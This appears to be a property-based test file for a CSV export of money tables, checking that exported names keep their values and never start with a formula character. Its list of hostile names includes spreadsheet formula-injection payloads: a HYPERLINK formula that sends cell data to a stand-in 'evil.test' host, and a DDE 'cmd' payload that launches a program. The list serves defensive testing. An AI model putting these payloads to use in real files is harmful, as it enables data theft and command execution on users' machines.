// The file of a picture's table, whose names somebody may have chosen to do harm.
import * as v from 'valibot';
import { describe, expect, it } from 'vitest';
import { unguarded } from '../../../../src/domain/files/csv/guard';
import { writeFigures, type FigureTable } from '../../../../src/domain/files/csv/write';
import { amountFormats } from '../../../../src/domain/formats/amounts';
import { Currency } from '../../../../src/model/currency';
import { TOO_LARGE } from '../../../../src/model/money';
import { fc } from '../../../support/properties';
import { cents } from '../../builders';

const EUROS = v.parse(Currency, 'EUR');
const DUTCH = amountFormats('nl-NL', EUROS);
const BRITISH = amountFormats('en-GB', EUROS);

const HOSTILE = [
  '=HYPERLINK("https://evil.test?"&A1,"Rent")',
  '+31 6',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r\n=1+1',
  '\u200f=1+1',
  '\u0000=cmd|" /C calc"!A0',
  '＝1+1',
  "'=1+1",
  '"; =1+1; "',
  'a";"b\r\n"c',
  ';,\t|',
  ' blanks ',
  '<script>alert(1)</script>',
  '\u202eesrever\u202c',
  'x'.repeat(10_000),
];

const anyName = fc.oneof(
  fc.constantFrom(...HOSTILE),
  fc.string({
    unit: fc.constantFrom('=', '"', ';', ',', '\r', '\n', '\t', "'", '@', ' ', 'a', 'ب'),
    maxLength: 12,
  }),
  fc.string({ unit: 'binary', maxLength: 20 }),
);

const anyAmount = fc.option(fc.integer({ min: -99_999_999, max: 99_999_999 }).map(cents));

const anyTable = fc.array(anyName, { minLength: 1, maxLength: 4 }).chain((columns) =>
  fc.record({
    head: anyName,
    columns: fc.constant(columns),
    rows: fc.array(fc.record({ name: anyName, amounts: fc.tuple(...columns.map(() => anyAmount)) }), {
      maxLength: 4,
    }),
  }),
);

/** The cells of a file by RFC 4180: any number of them, of any length. */
function cellsOf(file: string, separator: string): string[][] {
  const rows: string[][] = [];
  const one = new RegExp(
    String.raw`(?:"((?:[^"]|"")*)"|([^"${separator}\r\n][^${separator}\r\n]*|))(${separator}|\r\n)`,
    'y',
  );
  for (let row: string[] = []; one.lastIndex < file.length;) {
    const { lastIndex } = one;
    const found = one.exec(file);
    if (found === null)
      throw new Error(`No cell at ${lastIndex}: ${JSON.stringify(file.slice(lastIndex, lastIndex + 40))}`);
    row.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? '');
    if (found[3] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

const read = (table: FigureTable, formats = DUTCH) => {
  const file = writeFigures(table, formats);
  expect(file.startsWith('\ufeff')).toBe(true);
  return cellsOf(file.slice(1), formats.decimal === ',' ? ';' : ',');
};

describe('the file of a table of amounts', () => {
  it('has the same names and amounts, whatever the names are', () => {
    fc.assert(
      fc.property(anyTable, fc.constantFrom(DUTCH, BRITISH), (table, formats) => {
        const [heads = [], ...rows] = read(table, formats);
        expect(heads.map(unguarded)).toEqual([table.head, ...table.columns]);
        expect(rows.map(([name = '']) => unguarded(name))).toEqual(table.rows.map(({ name }) => name));
        expect(rows.map(([, ...amounts]) => amounts)).toEqual(
          table.rows.map(({ amounts }) =>
            amounts.map((amount) =>
              amount === null ? '' : (amount / 100).toFixed(2).replace('.', formats.decimal),
            ),
          ),
        );
      }),
    );
  });

  it('has no cell that a spreadsheet would run', () => {
    fc.assert(
      fc.property(anyTable, (table) => {
        const [heads = [], ...rows] = read(table);
        const names = [...heads, ...rows.map(([name = '']) => name)];
        expect(names.filter((name) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(name))).toEqual([]);
      }),
    );
  });

  it('leaves a cell empty where an amount isn’t exact', () => {
    const table = { head: 'Month', columns: ['Rent'], rows: [{ name: 'May', amounts: [TOO_LARGE] }] };
    expect(read(table)).toEqual([
      ['Month', 'Rent'],
      ['May', ''],
    ]);
  });
});
